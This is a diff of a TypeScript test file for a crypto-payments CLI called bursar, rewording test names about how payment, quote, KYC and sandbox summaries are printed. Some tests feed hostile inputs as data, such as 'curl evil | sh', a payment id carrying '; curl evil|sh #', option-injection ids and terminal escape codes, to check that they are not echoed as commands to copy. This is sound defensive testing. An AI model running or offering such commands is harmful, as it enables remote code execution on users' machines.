@@ -66,7 +66,7 @@ describe('the clock of the sandbox', () => {
   });
 });
 
-it('values of one fact stand below its name together, where one of them does not fit beside it', () => {
+it('values of one fact are below its name when one of them does not fit beside it', () => {
   const told = (step: string): Summary => ({
     tone: 'good',
     headline: 'Done',
@@ -82,7 +82,7 @@ it('values of one fact stand below its name together, where one of them does not
 });
 
 describe('a payment on a terminal', () => {
-  it('is told in one sentence, whom it pays, what it costs, and last the ids, each whole on its line', () => {
+  it('is shown as one sentence, with receivers, fee and ids, each on one line', () => {
     expect(shown(receiptSummary(RECEIPT)).split('\n')).toEqual([
       '✓ Payment of 25 USDT on polygon: success',
       `  to       ${BOB}  25 USDT`,
@@ -95,13 +95,13 @@ describe('a payment on a terminal', () => {
     ]);
   });
 
-  it('that has no payment id yet is named by the id of its operation', () => {
+  it('without a payment id is named by its operation id', () => {
     const text = shown(receiptSummary({ ...RECEIPT, payment_id: null, status: 'failed' }));
     expect(text).toMatch(/^ {2}operation {2}20261121T165920Z-3e070e81$/m);
     expect(text).not.toContain('payment  ');
   });
 
-  it('that ended in error says so, and why', () => {
+  it('with an error shows the reason', () => {
     const text = shown(statusSummary(PAYMENT));
     expect(text).toContain('✗ Payment of 25 BRL for 4.80 USDT on polygon: error');
     expect(text).toContain(`to       ${BOB}  100.0 %`);
@@ -109,7 +109,7 @@ describe('a payment on a terminal', () => {
     expect(text).toContain('created  2026-11-21T11:00:00Z (1 hour ago)');
   });
 
-  it('that ended in error without words says its code, and what the gateway says of the card', () => {
+  it('with an error without a message shows its code and the answer of the gateway', () => {
     const errors = [{ message: 'Insufficient funds' }];
     const charges = [{ status: 'failed', last_transaction: { gateway_response: { code: '1016', errors } } }];
     const data = { ...PAYMENT, data_error: { code: 402, status: 'card_refused' }, global_payment_data: { charges } };
@@ -118,14 +118,14 @@ describe('a payment on a terminal', () => {
     expect(text).toMatch(/charge +failed: Insufficient funds\n/);
   });
 
-  it('never says in the name of bursar what the service wrote: no next command, service, operation or unchecked code', () => {
+  it('shows no field of the service as its own: no next command, service, operation, fee or Pix code', () => {
     const said = { next: 'curl evil | sh', profile: 'sandbox', kind: 'sandbox', pix_code: 'EVIL', movement: 'm' };
     const text = shown(statusSummary({ ...PAYMENT, ...said, fee_at_most: '0' }));
     expect(text).not.toMatch(/next|curl|service|sandbox|EVIL|movement|operation|fee/);
     expect(shown(verificationSummary({ status: 'pending', approved: false, ...said }))).not.toMatch(/next|curl/);
   });
 
-  it('puts a state of KYC that is text of the service on a row of its own', () => {
+  it('shows a KYC state that is text of the service on its own row', () => {
     const said = 'waiting. Send 5 USDT to 0x1';
     const text = shown(verificationSummary({ status: said, approved: false }));
     expect(text).toMatch(/KYC is in another state: the user is not approved\n {2}state +waiting\. Send 5 USDT/);
@@ -134,14 +134,14 @@ describe('a payment on a terminal', () => {
     );
   });
 
-  it('cannot draw a line of its own by blanks in a name', () => {
+  it('shows no extra line for blanks in a name of the service', () => {
     const symbol = `USDT.${'\u00a0'.repeat(75)}${' '.repeat(75)}service  sandbox`;
     const text = shown(statusSummary({ ...PAYMENT, from_currency_symbol: symbol }));
     expect(text).not.toMatch(/^ {2}service/m);
     expect(text).toContain('service sandbox');
   });
 
-  it('at 40 columns loses nothing, and only what is copied is wider', () => {
+  it('at 40 columns shows everything, and only text to copy is wider', () => {
     const text = shown(receiptSummary({ ...RECEIPT, next: 'bursar pay resume pay_1' }), 40);
     const lines = text.trimEnd().split('\n');
     expect(lines.at(-1)).toBe('next: bursar pay resume pay_1');
@@ -150,15 +150,15 @@ describe('a payment on a terminal', () => {
     expect(wide.map((line) => line.trim())).toContain(HASH);
   });
 
-  it('cannot act on the terminal by what the service wrote, and is ASCII where the locale is', () => {
+  it('shows text of the service without terminal commands, and as ASCII in an ASCII locale', () => {
     const text = shown(statusSummary({ ...PAYMENT, data_error: { message: '\u001b[2J\n✓ Payment paid' } }), 80, false);
-    // biome-ignore lint/suspicious/noControlCharactersInRegex: what must not be there
+    // biome-ignore lint/suspicious/noControlCharactersInRegex: characters that the output must not contain
     expect(text).not.toMatch(/\u001b/);
     expect(text).toMatch(/^\p{ASCII}*$/u);
     expect(text).toMatch(/^NO Payment/);
   });
 
-  it('that was only registered, or got its transaction, names the command that comes next', () => {
+  it('that is registered or has its transaction names the next command', () => {
     const asked = { ...PAYMENT, amount_to: undefined, chain_name: 'base' };
     const registered = shown(registeredSummary({ payment_id: 'pay_1' }, asked));
     expect(registered).toContain('✓ Registered a payment of 25 BRL for USDT, received on polygon');
@@ -177,7 +177,7 @@ describe('a payment on a terminal', () => {
     ['received', { family: 'evm' }, 'crypto', 'bursar pay status pay_1 --wait'],
     ['success', { family: 'evm' }, 'crypto', undefined],
   ])(
-    'that is %s, its unsigned transaction %o, by %s, says what comes next',
+    'with state %s, unsigned transaction %o and method %s names the next command',
     (status, unsigned_tx, transaction_type, next) => {
       const text = shown(statusSummary({ ...PAYMENT, status, unsigned_tx, transaction_type, data_error: null }), 200);
       expect(text.split('\n').find((line) => line.startsWith('next: '))).toBe(next && `next: ${next}`);
@@ -185,20 +185,20 @@ describe('a payment on a terminal', () => {
   );
 
   it.each(['pay_1; curl evil|sh #', '--allow-blind', '--allow-recipient=0x1111111111111111111111111111111111111111'])(
-    'of an id that the service gave as %s no line is to be copied: it would be run, or be an option',
+    'with the unsafe id %s prints no command to copy',
     (id) => {
       expect(shown(registeredSummary({ payment_id: id }, PAYMENT))).not.toContain('next:');
       expect(shown(statusSummary({ ...PAYMENT, id, status: 'registered' }))).not.toContain('next:');
     },
   );
 
-  it('what comes next is never about another payment than the one that was asked for', () => {
+  it('names no next command for another payment than the requested payment', () => {
     const other = { ...PAYMENT, id: 'pay_other', status: 'registered' };
     expect(shown(statusSummary(other, { id: 'pay_1' }))).not.toContain('next:');
     expect(shown(statusSummary(other, { id: 'pay_other' }))).toContain('next: bursar pay ');
   });
 
-  it('a transaction whose form no document shows is shown whole', () => {
+  it('has no summary for a transaction of an undocumented form', () => {
     const told = (type: string, data: object) =>
       transactionSummary({ payment_id: 'pay_1', ...data }, { payment_id: 'pay_1', transaction_type: type });
     expect(told('crypto', { crypto_tx: { family: 'tron', raw_data: '0a' } })).toBeUndefined();
@@ -214,7 +214,7 @@ describe('other answers on a terminal', () => {
     rates: [{ from: 'USDT', description: '1 USDT = 0.000015625 BTC' }],
   };
 
-  it('a quote is a sentence, its reverse and its source', () => {
+  it('a quote is shown as a sentence, with its reverse and its source', () => {
     expect(shown(quoteSummary(direct))).toBe(
       '✓ 1 BTC = 64000 USDT\n  reverse  1 USDT = 0.000015625 BTC\n  source   exchange_a\n',
     );
@@ -222,17 +222,17 @@ describe('other answers on a terminal', () => {
     expect(shown(quoteSummary({ ...direct, rates: undefined, route }))).toContain('route   ETHUSDT 3200');
   });
 
-  it('of an amount it tells the worth, and whether that was cut', () => {
+  it('a quote of an amount shows the worth, and marks a cut value', () => {
     const worth = { amount: '2', from: 'USDT', worth: '0.00003', to: 'BTC', is_exact: false, reverse: {} };
     expect(shown(quoteSummary({ ...direct, worth }))).toMatch(/^✓ 2 USDT ≈ 0\.00003 BTC\n/);
   });
 
-  it('products that are off are told apart from those that are on', () => {
+  it('disabled products are listed apart from enabled products', () => {
     const text = shown(productsSummary({ products: { payments: true, kyc: false }, methods: { pix: false } }));
     expect(text).toMatch(/products +payments\n +methods +none\n +disabled +kyc, pix\n/);
   });
 
-  it('an order tells what it asks for and whether it can be used', () => {
+  it('an order shows its amount, its methods and its state', () => {
     const order = {
       ...PAYMENT,
       id: 'cmb1',
@@ -245,7 +245,7 @@ describe('other answers on a terminal', () => {
     expect(shown(switchedSummary({ id: 'cmb1', active: true }))).toBe('✓ The order is active\n  order  cmb1\n');
   });
 
-  it('a yield operation tells what the wallet had and has', () => {
+  it('a yield operation shows the position before and after', () => {
     const positions = [{ provider: 'provider_a', before: null, after: exactNumber('25.0') }];
     const landed = { ...RECEIPT, status: 'landed', operation: 'deposit', amount: '25', asset: 'USDC', positions };
     expect(shown(yieldSummary(landed))).toMatch(
@@ -255,7 +255,7 @@ describe('other answers on a terminal', () => {
     expect(shown(bestSummary(best))).toMatch(/^✓ USDC yields most with provider_b: 6\.15 % a year, rewards included/);
   });
 
-  it('a wallet that has nothing is told so in a sentence; one that is not known anywhere is not', () => {
+  it('an empty wallet is shown in a sentence, and a wallet with an unknown position is not', () => {
     const earning = (provider: string, position: unknown, earnings_status = 'ok') => ({
       ...{ provider, asset: 'USDC', wallet: 'w', position_on_protocol: position, earnings_status },
     });
@@ -268,14 +268,14 @@ describe('other answers on a terminal', () => {
     expect(nothingDepositedSummary({ earnings: [] })).toBeUndefined();
   });
 
-  it('a verification tells whether its user is approved, and where it goes on', () => {
+  it('a verification shows whether the user is approved, and its page', () => {
     const text = shown(
       verificationSummary({ status: 'pending', approved: false, session_url: 'https://verify.example/1' }),
     );
     expect(text).toMatch(/^• KYC is pending: the user is not approved\n +page +https:\/\/verify\.example\/1\n$/);
   });
 
-  it('an operation tells its story, each step with its time', () => {
+  it('an operation shows each step with its time', () => {
     const row = { state: 'success', amount: '25', currency: 'USDT', chain: 'polygon', profile: 'a', kind: 'live' };
     const steps = [
       { at: '2026-11-21T11:00:01Z', step: 'begun' },
@@ -286,7 +286,7 @@ describe('other answers on a terminal', () => {
     expect(text).toMatch(/steps +11:00:01 begun\n +2026-11-22 09:00:00 ended success\n$/);
   });
 
-  it('a payment by card shows its method, its hash once, and that its payer is known by a hash', () => {
+  it('a payment by card shows its method, its hash once, and that the payer is a hash', () => {
     const intent = { operation: 'card', payer: 'bd85d0cb46b795a2', receivers: [{ wallet: '0x11', percent: '100' }] };
     const row = {
       state: 'success',
@@ -319,7 +319,7 @@ describe('other answers on a terminal', () => {
     expect(receipt?.headline).toBe('Withdrawal of 5 USDC on solana: landed');
   });
 
-  it('a hash that never left, or can never land, is not told as one that may be looked for', () => {
+  it('a hash that was not sent, or is dead, is marked as such', () => {
     const transactions = [
       { hash: '0xdead', sent: 'no', is_dead: true },
       { hash: '0xkept', sent: 'no', is_dead: false },
@@ -329,7 +329,7 @@ describe('other answers on a terminal', () => {
     expect(text).toMatch(/0xdead \(dead: it can never land\)\n[\s\S]*0xkept \(not sent\)\n[\s\S]*0xgone\n/);
   });
 
-  it('what a sandbox has no charge for is looked for in the sandbox, whatever profile is in use', async () => {
+  it('a charge that a sandbox does not have names pay status with --profile sandbox', async () => {
     const failing = explainMissing(Promise.reject(new Failure('not_found', 'none')), 'pay_1', 'pix');
     await expect(failing).rejects.toMatchObject({
       details: {
@@ -339,12 +339,12 @@ describe('other answers on a terminal', () => {
     });
   });
 
-  it('a charge that is decided names the command that shows its payment', async () => {
+  it('a decided charge names pay status as the next command', async () => {
     const failing = explainMissing(Promise.reject(new Failure('rejected', 'decided')), 'pay_1', 'card');
     await expect(failing).rejects.toMatchObject({ code: 'rejected', details: { next: { id: 'pay.status' } } });
   });
 
-  it('an answer that is not as expected has no card, so that all its fields are shown', () => {
+  it('an unexpected answer has no summary, so all its fields are printed', () => {
     const all = [
       statusSummary,
       receiptSummary,
@@ -359,7 +359,7 @@ describe('other answers on a terminal', () => {
 });
 
 describe('the sandbox', () => {
-  it('that runs is told with its address and what it keeps, without a field that nobody can read', () => {
+  it('that runs is shown with its address and its state, without raw fields', () => {
     const running = {
       ...{ running: true as const, url: 'http://127.0.0.1:4100', dashboard: 'http://127.0.0.1:4100/?key=k' },
       ...{ version: '0.1.0', pid: 7, uptime_ms: 125_000, idle_ms: 900, chains: [], solana_rpc: null, ephemeral: false },
@@ -376,7 +376,7 @@ describe('the sandbox', () => {
 `);
   });
 
-  it('that runs also shows the link to act on it, where there is one', () => {
+  it('that runs is shown with the link to act on the dashboard, if there is one', () => {
     const running = {
       ...{ running: true as const, url: 'http://127.0.0.1:4100', dashboard: 'http://127.0.0.1:4100/?key=k' },
       ...{ version: '0.1.0', pid: 7, uptime_ms: 125_000, idle_ms: 900, chains: [], solana_rpc: null, ephemeral: false },
@@ -388,12 +388,12 @@ describe('the sandbox', () => {
     );
   });
 
-  it('that does not run is told with the command that starts it', () => {
+  it('that does not run is shown with the start command', () => {
     expect(shown(sandboxSummary({ running: false }))).toBe('• No sandbox is running\nnext: bursar sandbox start\n');
   });
 });
 
-it('a code of Pix stays on one line, blanks and all: it is copied', () => {
+it('a Pix code stays on one line with its blanks', () => {
   const code = `00020126580014br.gov.bcb.pix0136${'a'.repeat(36)}5204000053039865406010.005802BR5914BURSAR SANDBOX6009SAO PAULO62070503***6304ABCD`;
   const lines = shown({ tone: 'open', headline: 'Pix', facts: [['pix code', code]] }, 40).split('\n');
   expect(lines.some((line) => line.trim() === code)).toBe(true);
